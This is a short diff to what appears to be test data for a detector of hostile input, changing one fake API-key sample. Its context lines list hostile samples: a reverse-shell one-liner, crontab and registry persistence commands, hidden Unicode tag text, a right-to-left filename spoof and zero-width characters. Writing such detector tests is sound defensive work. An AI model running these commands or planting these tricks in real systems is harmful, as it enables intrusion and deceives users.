@@ -39,7 +39,7 @@ ATTACKS = [
     ("(crontab -l; echo '* * * * * x') | crontab -", Category.PERSISTENCE),
     ("bash -i >& /dev/tcp/10.0.0.1/443 0>&1", Category.PERSISTENCE),
     (r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x", Category.PERSISTENCE),
-    ("the key is sk-abcdefghijklmnopqrstuv", Category.SECRET),
+    ("the key is sk-abCDefGH12ijKLmn34opqr", Category.SECRET),
     ("hello\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 there", Category.HIDDEN),
     ("abc\u202etxt.exe", Category.HIDDEN),
     ("x" + "\u200b" * 9 + "y", Category.HIDDEN),
